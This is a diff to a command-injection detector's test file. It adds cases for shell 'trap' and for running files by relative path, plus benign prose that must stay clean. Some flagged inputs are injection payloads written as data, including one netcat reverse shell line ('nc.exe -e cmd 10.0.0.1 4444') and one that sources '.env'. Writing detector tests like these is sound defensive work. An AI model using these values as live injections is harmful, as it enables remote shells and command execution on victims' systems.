@@ -1713,3 +1713,17 @@ describe('cmdi session 21 (rtc23): $(<file) substitutes the file it reads (bash)
   // (an empty one runs nothing; a '<' after a command word is its input, judged with the command; markup and jQuery's $('<div>'))
   it.each(['$(<)', "$('<div>')", '$("<b>x</b>")', 'a $ (<b>) c', 'x $(x) < y'])('%s stays clean', expectNoCmdi);
 });
+
+describe('cmdi session 21 (rtc23): trap runs its first operand, quoted or not, at the signals named after it', () => {
+  it.each(['x;trap id EXIT', 'x;trap id 0', 'x; trap id INT', 'x|trap whoami SIGTERM', 'x\ntrap id ERR', 'trap id EXIT'])('%s is a command', expectCmdi);
+  // (a word that names no signal after it, or trap out of command position, is prose)
+  it.each(['x;trap id cards', 'Tourist trap; Avoid it', 'a trap date 0', 'Mouse trap, cat 5', 'x;trap door 0'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 21 (rtc23): a file run by a relative path (the dot builtin, ./ .\\, cmd.exe after & | newline)', () => {
+  it.each(['x;. ./cmdfile', 'x;. cmdfile', 'x;. uploads/a.png', 'x;. .env', 'x|. ../x', 'x;. ~/x', 'x&.\\a.bat', 'x&./run.sh', 'x|.\\a.bat',
+    'x&x.bat', 'x&uploads\\a.exe', 'x & setup.exe /S', 'x|a.exe', 'x\nuploads\\a.exe', 'x&tools\\nc.exe -e cmd 10.0.0.1 4444', 'x&a.cmd&y'])('%s is a command', expectCmdi);
+  // a domain after '&' (.com is a program's extension too), a document, a folder, prose after ". " on a new line
+  it.each(['Barnes&Noble.com', 'AT&T.com', 'H&M.com/shop', 'x&Readme.txt', 'R&D\\Docs', 'Tom & Jerry', 'x|foo.bar', 'Hello\n. Next item',
+    'Q&A. Then', 'x&. ./y', 'Wait... then; done', 'End.;. '])('%s stays clean', expectNoCmdi);
+});
